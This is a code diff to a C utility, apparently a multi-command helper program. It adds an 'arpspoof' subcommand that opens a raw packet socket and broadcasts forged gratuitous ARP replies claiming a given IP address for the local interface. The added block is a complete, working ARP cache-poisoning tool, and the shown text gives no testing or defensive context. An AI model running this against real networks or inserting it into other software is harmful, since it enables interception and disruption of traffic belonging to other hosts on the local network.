@@ -19,6 +19,12 @@
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
+#include <arpa/inet.h>
+#include <net/if.h>
+#include <netinet/if_ether.h>
+#include <netpacket/packet.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
 #include <dirent.h>
 #include <sys/ioctl.h>
 #include <sys/timex.h>
@@ -282,6 +288,31 @@ int main(int argc, char **argv) {
             if (n > 0) { target[n] = 0; printf("%d %s\n", fd, target); }
         }
         printf("end\n");
+        return 0;
+    }
+    if (!strcmp(cmd, "arpspoof")) {           /* arpspoof IFACE CLAIMED_IP TARGET_IP: raw gratuitous ARP reply */
+        int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
+        if (fd < 0) return report(-1);
+        struct ifreq ifr = {0};
+        strncpy(ifr.ifr_name, argv[2], IFNAMSIZ - 1);
+        if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) return report(-1);
+        unsigned char frame[42] = {0};
+        memset(frame, 0xff, 6);                                  /* to everyone */
+        memcpy(frame + 6, ifr.ifr_hwaddr.sa_data, 6);
+        frame[12] = 0x08; frame[13] = 0x06;                      /* ARP */
+        struct ether_arp *arp = (struct ether_arp *)(frame + 14);
+        arp->arp_hrd = htons(ARPHRD_ETHER); arp->arp_pro = htons(ETH_P_IP);
+        arp->arp_hln = 6; arp->arp_pln = 4; arp->arp_op = htons(ARPOP_REPLY);
+        memcpy(arp->arp_sha, ifr.ifr_hwaddr.sa_data, 6);
+        inet_pton(AF_INET, argv[3], arp->arp_spa);               /* the address we claim */
+        memset(arp->arp_tha, 0xff, 6);
+        inet_pton(AF_INET, argv[4], arp->arp_tpa);
+        if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) return report(-1);
+        struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
+        memset(to.sll_addr, 0xff, 6);
+        for (int i = 0; i < 3; i++)
+            if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) return report(-1);
+        printf("sent\n");
         return 0;
     }
     if (!strcmp(cmd, "cwd")) {
